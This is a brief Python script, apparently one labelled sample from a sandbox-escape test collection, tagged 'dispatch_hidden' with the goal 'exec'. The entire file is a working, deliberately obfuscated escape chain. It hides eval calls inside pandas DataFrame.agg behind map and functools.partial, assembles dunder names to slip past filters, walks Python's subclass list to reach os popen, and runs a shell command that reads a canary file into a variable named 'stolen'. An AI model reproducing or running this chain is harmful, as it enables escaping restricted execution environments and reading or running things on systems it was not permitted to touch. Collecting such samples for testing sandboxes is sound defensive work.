# class: dispatch_hidden
# technique: map(functools.partial(frame.agg, local_dict=...), ['eval'], [0], [expr]) — map makes the dispatch call
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
walk = "@seed." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "()"
popen = "@w[0]." + u + "init" + u + "." + u + "globals" + u + "['popen'](@cmd).read()"
cmd = "cat {{CANARY_FILE}}"
import functools

frame = pd.DataFrame({"x": np.arange(3)})
classes = list(map(functools.partial(frame.agg, local_dict={"seed": ()}), ["eval"], [0], [walk]))[0]
wrap_close = [c for c in classes if "wrap_close" in str(c)][0]
stolen = list(map(functools.partial(frame.agg, local_dict={"w": [wrap_close], "cmd": cmd}), ["eval"], [0], [popen]))[0]
if not stolen:
    raise RuntimeError("the command printed nothing")
df = pd.DataFrame({"stolen": [stolen]})
